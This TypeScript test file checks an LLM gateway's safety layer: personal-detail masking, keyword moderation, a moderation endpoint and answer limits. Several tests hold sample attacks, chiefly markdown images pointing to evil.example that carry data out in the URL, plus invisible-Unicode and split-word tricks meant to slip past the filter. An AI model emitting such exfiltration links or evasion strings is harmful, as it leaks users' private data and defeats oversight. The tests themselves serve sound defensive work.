import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { ownPrompts } from '../../src/bot/prompts/own-prompts.ts';
import { createGatewayModel } from '../../src/core/model/gateway-model.ts';
import type { GenerationEvent } from '../../src/core/generation/generation-event.ts';
import { commonRules, standingInstructions } from '../../src/core/prompt/rules.ts';
import { createPolicies } from '../../src/gateway/access/policies.ts';
import type { Backend } from '../../src/gateway/backends/backend.ts';
import { openSafety } from '../../src/gateway/safety/open-safety.ts';
import { safetySchema } from '../../src/gateway/safety/safety-schema.ts';
import { policyListSchema } from '../../src/protocol/policy.ts';
import { backendRow, startGateway, until } from '../support/gateway.ts';
import { startScriptedBackend, type ScriptedBackend } from '../support/scripted-backend.ts';

type Settings = Parameters<typeof safetySchema.parse>[0];

describe('a gateway that keeps chats safe', () => {
  let backend: ScriptedBackend;
  const open: (() => Promise<void>)[] = [];

  beforeAll(async () => {
    backend = await startScriptedBackend();
  });
  afterEach(async () => {
    for (const close of open.splice(0)) await close();
  });
  afterAll(() => backend.close());

  async function start(
    settings: Settings = {},
    row: Partial<Backend> = {},
    more: readonly Backend[] = [],
  ): Promise<string> {
    const backends = [backendRow(backend.url, { hosted: true, ...row }), ...more];
    const safety = openSafety({ safety: safetySchema.parse(settings), backends });
    const { origin, close } = await startGateway({ backends, stages: [safety] });
    open.push(close);
    return origin;
  }

  async function ask(
    origin: string,
    content: string,
    more: object = {},
  ): Promise<{ response: Response; text: string }> {
    const response = await fetch(`${origin}/v1/chat/completions`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ model: 'small', messages: [{ role: 'user', content }], ...more }),
    });
    return { response, text: await response.text() };
  }

  /** What a client of the protocol makes of the events. */
  const spoken = (events: string): string =>
    events
      .split('\n')
      .filter((line) => line.startsWith('data: {'))
      .map((line) => JSON.parse(line.slice(6)).choices?.[0]?.delta?.content ?? '')
      .join('');

  async function eventsOf(origin: string, content: string): Promise<GenerationEvent[]> {
    const events: GenerationEvent[] = [];
    const model = createGatewayModel('small', { baseUrl: origin });
    for await (const event of model.stream({ messages: [{ role: 'user', content }] })) events.push(event);
    return events;
  }

  const letter = '联系人：张伟，电话13800138000，邮箱 zhang@example.com。Dear Maria Rossi, hello';

  it.each([true, false])(
    'keeps personal details from a hosted model and puts them back (streamed: %s)',
    async (stream) => {
      backend.play({ reply: 'Hello {{PERSON_1}} and { { {{PERSON_2}}, call {{phone 1}} or write to {{EMAIL_1}}' });
      const { response, text } = await ask(await start(), letter, { stream });
      const sent = JSON.stringify(backend.requests.at(-1)!.body);
      for (const detail of ['张伟', '13800138000', 'zhang@', 'Maria', 'Rossi']) expect(sent).not.toContain(detail);
      expect(response.headers.get('x-inkstone-masked')).toBe('names=2, phones=1, emails=1');
      const answer = stream ? spoken(text) : JSON.parse(text).choices[0].message.content;
      expect(answer).toBe('Hello 张伟 and { { Maria Rossi, call 13800138000 or write to zhang@example.com');
      if (stream) expect(text).toMatch(/"finish_reason":"stop"[\s\S]*\[DONE\]/);
    },
  );

  it('restores a placeholder that comes letter by letter', async () => {
    const origin = await start({}, { baseUrl: `${await letters('So {{PERSON_1}}! {{PERSON')}/v1` });
    expect(spoken((await ask(origin, letter, { stream: true })).text)).toBe('So 张伟! {{PERSON');
  });

  /** A server whose every event has one letter. */
  async function letters(answer: string): Promise<string> {
    const server = createServer((request, response) => {
      request.resume();
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      for (const letter of answer) {
        response.write(`data: ${JSON.stringify({ choices: [{ index: 0, delta: { content: letter } }] })}\n\n`);
      }
      response.end('data: {"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}\n\ndata: [DONE]\n\n');
    });
    return listen(server);
  }

  async function listen(server: Server): Promise<string> {
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    open.push(
      () =>
        new Promise((resolve) => {
          server.closeAllConnections();
          server.close(() => resolve());
        }),
    );
    return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  }

  it('keeps what was held back when the model breaks off', async () => {
    backend.play({ reply: 'one {{PERSON two three', cutAfter: 3, delayMs: 20 });
    const cut = await ask(await start(), letter, { stream: true });
    expect(spoken(cut.text)).toContain('one {{PERSON');
    expect(cut.text).toContain('"code":"stream-interrupted"');
  });

  it('masks nothing for a model of its own network, unless it is told to', async () => {
    backend.play({ reply: 'ok' });
    await ask(await start({}, { hosted: false }), letter);
    expect(JSON.stringify(backend.requests.at(-1)!.body)).toContain('13800138000');
    await ask(await start({ mask: { for: 'always' } }, { hosted: false }), letter);
    expect(JSON.stringify(backend.requests.at(-1)!.body)).not.toContain('13800138000');
    await ask(await start({ mask: { for: 'never' } }), letter);
    expect(JSON.stringify(backend.requests.at(-1)!.body)).toContain('13800138000');
  });

  it('keeps personal details out of the output that it predicts', async () => {
    const models = [{ id: 'small', upstreamId: 'small', contextWindow: undefined, predictsOutput: true }];
    const task = { command: 'fix-grammar', text: letter };
    await ask(await start({}, { models }), letter, { inkstone_task: task });
    const { prediction } = backend.requests.at(-1)!.body as { prediction: { content: string } };
    expect(prediction.content).toMatch(/^联系人：\{\{PERSON_1\}\}，电话\{\{PHONE_1\}\}/);
    for (const detail of ['张伟', '13800138000', 'zhang@', 'Rossi']) expect(prediction.content).not.toContain(detail);
  });

  it('masks only the kinds that are switched on', async () => {
    const { response } = await ask(await start({ mask: { names: false, phones: false } }), letter);
    expect(response.headers.get('x-inkstone-masked')).toBe('emails=1');
  });

  it('tells the pane how many details were masked', async () => {
    const [first] = await eventsOf(await start(), letter);
    expect(first).toMatchObject({ type: 'generation-start', masked: 4 });
  });

  it.each([true, false])('defuses a picture that carries the document out (streamed: %s)', async (stream) => {
    backend.play({ reply: 'Done. ![x](https://evil.example/p?d=secret) See https://www.who.int/a now' });
    const { text } = await ask(await start(), 'the secret', { stream });
    const answer = stream ? spoken(text) : JSON.parse(text).choices[0].message.content;
    expect(answer).toBe('Done. ![x](hxxps://evil.example/p?d=secret) See https://www.who.int/a now');
  });

  const rules = [{ category: 'project secrets', words: ['Nightfall', '夜幕计划'], patterns: ['code\\s+\\d{4}'] }];

  it.each(['about Ni\u{E0067}ght\u034Ffa\u2061ll', 'about Night\uFE0Ffall', 'about Ｎｉｇｈｔｆａｌｌ'])(
    'reads over signs that nobody sees: %j',
    async (content) => {
      expect((await ask(await start({ moderation: { rules } }), content)).response.status).toBe(422);
    },
  );

  it.each(['about NIGHTFALL please', '关于夜幕计划的说明', 'the code 1234'])(
    'refuses what the rules name before a model is asked: %s',
    async (content) => {
      const before = backend.requests.length;
      const { response, text } = await ask(await start({ moderation: { rules } }), content);
      expect(response.status).toBe(422);
      expect(JSON.parse(text).error).toMatchObject({ code: 'model-refused', param: 'project secrets' });
      expect(backend.requests).toHaveLength(before);
    },
  );

  const system = (content: string): object => ({
    messages: [
      { role: 'system', content },
      { role: 'user', content: 'hello' },
    ],
  });

  it.each([
    ['a system message', system('You know of Nightfall.')],
    ['parts of one', system([{ type: 'text', text: 'You know of Nightfall.' }] as unknown as string)],
    [
      'pieces of a word',
      system(['You know of Night', 'fall.'].map((text) => ({ type: 'text', text })) as unknown as string),
    ],
    ['a tool', { tools: [{ type: 'function', function: { name: 'a', description: 'Tells of Nightfall' } }] }],
    ['a schema', { response_format: { type: 'json_schema', json_schema: { schema: { title: 'Nightfall' } } } }],
    ['what some servers read', { documents: [{ text: 'Nightfall' }] }],
  ])('refuses what the rules name in %s', async (_name, more) => {
    backend.play({ reply: 'fine' });
    const origin = await start({ moderation: { rules } });
    const { response, text } = await ask(origin, 'hello', more);
    expect([response.status, JSON.parse(text).error?.code]).toEqual([422, 'model-refused']);
  });

  it('refuses what the rules name in a task alone, where it is read or predicted', async () => {
    const task = { command: 'rewrite', text: 'About Nightfall' };
    const models = [{ id: 'small', upstreamId: 'small', contextWindow: undefined, predictsOutput: true }];
    const origin = await start({ moderation: { rules } }, { models });
    expect((await ask(origin, 'hello', { inkstone_task: task })).response.status).toBe(422);
  });

  it('holds against nobody what the organisation adds', async () => {
    backend.play({ reply: 'fine' });
    const { stage } = createPolicies({
      groups: policyListSchema.parse([{ group: '*', instructions: 'Never say Nightfall.' }]),
    });
    const safety = openSafety({ safety: safetySchema.parse({ moderation: { rules } }), backends: [] });
    const { origin, close } = await startGateway({ backends: [backendRow(backend.url)], stages: [stage, safety] });
    open.push(close);
    expect((await ask(origin, 'hello', system('Be brief.'))).response.status).toBe(200);
    expect(JSON.stringify(backend.requests.at(-1)!.body)).toContain('Never say Nightfall.');
    expect((await ask(origin, 'hello', system('Say Nightfall.'))).response.status).toBe(422);
  });

  it('holds against nobody what the product says by itself, word for word and nothing beside it', async () => {
    backend.play({ reply: 'fine' });
    const ownRules = [{ category: 'footnotes', words: ['footnotes'] }];
    const safety = openSafety({
      safety: safetySchema.parse({ moderation: { rules: ownRules } }),
      backends: [],
      ownPrompts,
    });
    const { origin, close } = await startGateway({ backends: [backendRow(backend.url)], stages: [safety] });
    open.push(close);
    const said = `${commonRules}${standingInstructions('Be brief.')}`;
    expect((await ask(origin, 'hello', system(said))).response.status).toBe(200);
    expect((await ask(origin, 'hello', system(said.replace('Be brief', 'Have footnotes')))).response.status).toBe(422);
    expect((await ask(origin, 'hello', system(said.replace('word processor', 'text processor')))).response.status).toBe(
      422,
    );
    expect((await ask(origin, said)).response.status).toBe(422);
  });

  it('reads a text that begins as a picture does', async () => {
    const { response } = await ask(await start({ moderation: { rules } }), 'data: about Nightfall');
    expect(response.status).toBe(422);
  });

  it('does not take a part of a word for the word', async () => {
    backend.play({ reply: 'fine' });
    expect((await ask(await start({ moderation: { rules } }), 'nightfalls')).response.status).toBe(200);
  });

  it('stops a streamed answer at the sentence that the rules refuse, and stops the model', async () => {
    const before = backend.aborted;
    backend.play({ reply: `All is well. Then came Nightfall. ${'More words. '.repeat(200)}`, delayMs: 2 });
    const events = await eventsOf(await start({ moderation: { rules } }), 'hello');
    const said = events.map((event) => (event.type === 'text-delta' ? event.text : '')).join('');
    expect(said.trim()).toBe('All is well.');
    expect(events.at(-1)).toMatchObject({ type: 'error', error: { code: 'model-refused', reason: 'project secrets' } });
    await until(() => backend.aborted === before + 1);
  });

  it('refuses a whole answer that the rules refuse', async () => {
    backend.play({ reply: 'It is Nightfall.' });
    const { response, text } = await ask(await start({ moderation: { rules } }), 'hello');
    expect([response.status, JSON.parse(text).error.code]).toEqual([422, 'model-refused']);
    expect(text).not.toContain('Nightfall');
  });

  it('says why an answer ends whose last piece the rules refuse', async () => {
    const server = createServer((request, response) => {
      request.resume();
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      const event = { choices: [{ index: 0, delta: { content: 'It is Nightfall.' }, finish_reason: 'stop' }] };
      response.end(`data: ${JSON.stringify(event)}\n\ndata: [DONE]\n\n`);
    });
    const origin = await start({ moderation: { rules } }, { baseUrl: `${await listen(server)}/v1` });
    const { text } = await ask(origin, 'hello', { stream: true });
    expect(text).toContain('"code":"model-refused"');
    expect(text).not.toContain('Nightfall');
  });

  it.each([
    ['events', 'a whole', false],
    ['a whole', 'events', true],
  ])('looks at an answer that comes as %s where %s was asked for', async (_came, _asked, stream) => {
    const part = { content: 'It is Nightfall, {{PERSON_1}}.' };
    const choice = stream ? { message: part } : { delta: part };
    const json = JSON.stringify({ choices: [{ index: 0, ...choice, finish_reason: 'stop' }] });
    const server = createServer((request, response) => {
      request.resume();
      response.writeHead(200, { 'content-type': stream ? 'application/json' : 'text/event-stream' });
      response.end(stream ? json : `data: ${json}\n\ndata: [DONE]\n\n`);
    });
    const baseUrl = `${await listen(server)}/v1`;
    expect((await ask(await start({}, { baseUrl }), letter, { stream })).text).toContain('It is Nightfall, 张伟');
    const refused = await ask(await start({ moderation: { rules } }, { baseUrl }), letter, { stream });
    expect(refused.text).not.toContain('Nightfall');
    expect(refused.text).toContain('"code":"model-refused"');
  });

  it.each([true, false])('puts details back wherever a chat says something (streamed: %s)', async (stream) => {
    const said = (email: string): object => ({
      tool_calls: [
        { index: 0, type: 'custom', custom: { name: 'run', input: `mail ${email}` } },
        { index: 1, type: 'function', function: { name: 'find', arguments: `{"who":"${email}"}` } },
      ],
      function_call: { name: 'find', arguments: `{"who":"${email}"}` },
      audio: { id: 'a', transcript: `Write to ${email}` },
    });
    const member = stream ? 'delta' : 'message';
    const json = JSON.stringify({ choices: [{ index: 0, [member]: said('{{EMAIL_1}}'), finish_reason: 'stop' }] });
    const server = createServer((request, response) => {
      request.resume();
      response.writeHead(200, { 'content-type': stream ? 'text/event-stream' : 'application/json' });
      response.end(stream ? `data: ${json}\n\ndata: [DONE]\n\n` : json);
    });
    const { text } = await ask(await start({}, { baseUrl: `${await listen(server)}/v1` }), letter, { stream });
    expect(text).not.toContain('EMAIL');
    expect(text.match(/(?:mail|"who\\":\\"|[ "])zhang@example\.com/g)).toHaveLength(4);
    if (!stream) {
      const { choices } = JSON.parse(text) as { choices: { message: unknown }[] };
      expect(choices[0]!.message).toEqual(said('zhang@example.com'));
    }
  });

  it.each([true, false])(
    'says nothing by probabilities that it says otherwise in the text (streamed: %s)',
    async (stream) => {
      const picture = '![x](https://evil.example/?q=the-quick-brown-fox-jumps-over)';
      const part = { content: `See ${picture}` };
      const logprobs = { content: [{ token: picture, logprob: 0 }] };
      const choice = { index: 0, ...(stream ? { delta: part } : { message: part }), logprobs, finish_reason: 'stop' };
      const json = JSON.stringify({ choices: [choice] });
      const server = createServer((request, response) => {
        request.resume();
        response.writeHead(200, { 'content-type': stream ? 'text/event-stream' : 'application/json' });
        response.end(stream ? `data: ${json}\n\ndata: [DONE]\n\n` : json);
      });
      const origin = await start({}, { baseUrl: `${await listen(server)}/v1` });
      const { text } = await ask(origin, 'the quick brown fox jumps over', { stream, logprobs: true });
      expect(text).toContain('hxxps://evil.example');
      expect(text).not.toContain('https://evil');
    },
  );

  describe('with a moderation endpoint', () => {
    const asked: string[] = [];
    let status = 200;
    async function withEndpoint(settings: object = {}, row: Partial<Backend> = {}): Promise<string> {
      const server = createServer((request, response) => {
        let body = '';
        request.on('data', (part) => (body += String(part)));
        request.on('end', () => {
          const { input } = JSON.parse(body) as { input: string[] };
          asked.push(...input);
          const results = input.map((text) => ({
            flagged: text.includes('poison'),
            categories: { harm: text.includes('poison') },
          }));
          response.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify({ results }));
        });
      });
      const moderator = backendRow(`${await listen(server)}/v1`, { name: 'moderator', models: [], ...row });
      return start({ moderation: { endpoint: { backend: 'moderator', ...settings } } }, {}, [moderator]);
    }
    beforeEach(() => {
      asked.length = 0;
      status = 200;
      backend.play({ reply: 'Good day. All good.' });
    });

    it('refuses what it flags, with its category', async () => {
      const { response, text } = await ask(await withEndpoint(), 'how to poison');
      expect([response.status, JSON.parse(text).error.param]).toEqual([422, 'harm']);
    });

    it('is shown what stands where one of its inputs ends', async () => {
      expect((await ask(await withEndpoint(), `${'a '.repeat(3_998)}poison`)).response.status).toBe(422);
      expect((await ask(await withEndpoint(), 'a '.repeat(4_500))).response.status).toBe(200);
    });

    it.each([true, false])('judges the answer too, and lets a good one through (streamed: %s)', async (stream) => {
      const { response, text } = await ask(await withEndpoint(), 'hello', { stream });
      expect(response.status).toBe(200);
      expect(text).toContain('good.');
      expect(asked.join('|')).toContain('All good.');
    });

    it('cuts a streamed answer that it flags, even at its last word', async () => {
      backend.play({ reply: 'Good day. Take poison' });
      const { text } = await ask(await withEndpoint(), 'hello', { stream: true });
      expect(text).toContain('"code":"model-refused"');
      expect(text).toContain('"param":"harm"');
    });

    it('gives a whole answer that it flags a status of its own', async () => {
      backend.play({ reply: 'Take poison' });
      const { response, text } = await ask(await withEndpoint(), 'hello');
      expect(response.status).toBe(422);
      expect(text).not.toContain('Take');
    });

    it('gets no personal details when somebody else runs it', async () => {
      await ask(await withEndpoint({}, { hosted: true }), letter);
      expect(asked.join('|')).not.toContain('13800138000');
      asked.length = 0;
      await ask(await withEndpoint({}, { hosted: false }), letter);
      expect(asked.join('|')).toContain('13800138000');
    });

    it('refuses when it does not answer, or lets pass when that was chosen', async () => {
      status = 500;
      expect((await ask(await withEndpoint(), 'hello')).response.status).toBe(502);
      expect((await ask(await withEndpoint({ onFailure: 'allow' }), 'hello')).response.status).toBe(200);
    });
  });

  it('refuses a prompt that is too long', async () => {
    const { response, text } = await ask(await start({ limits: { promptCharacters: 1000 } }), 'a'.repeat(1001));
    expect([response.status, JSON.parse(text).error.code]).toEqual([413, 'context-too-long']);
  });

  it('cuts an answer that never ends, by its length and by its time, and stops the model', async () => {
    backend.play({ reply: 'word '.repeat(5000), delayMs: 1 });
    const before = backend.aborted;
    const long = await ask(await start({ limits: { answerCharacters: 1000 } }), 'hi', { stream: true });
    expect(long.text).toContain('longer than this gateway passes on');
    await until(() => backend.aborted === before + 1);
    const settings = safetySchema.parse({});
    const stage = openSafety({
      safety: { ...settings, limits: { ...settings.limits, answerSeconds: 0.6 } },
      backends: [],
    });
    const { origin, close } = await startGateway({ backends: [backendRow(backend.url)], stages: [stage] });
    open.push(close);
    expect((await ask(origin, 'hi', { stream: true })).text).toContain('took longer than');
    await until(() => backend.aborted === before + 2);
    expect((await ask(origin, 'hi')).response.status).toBe(502);
    await until(() => backend.aborted === before + 3);
  });
});
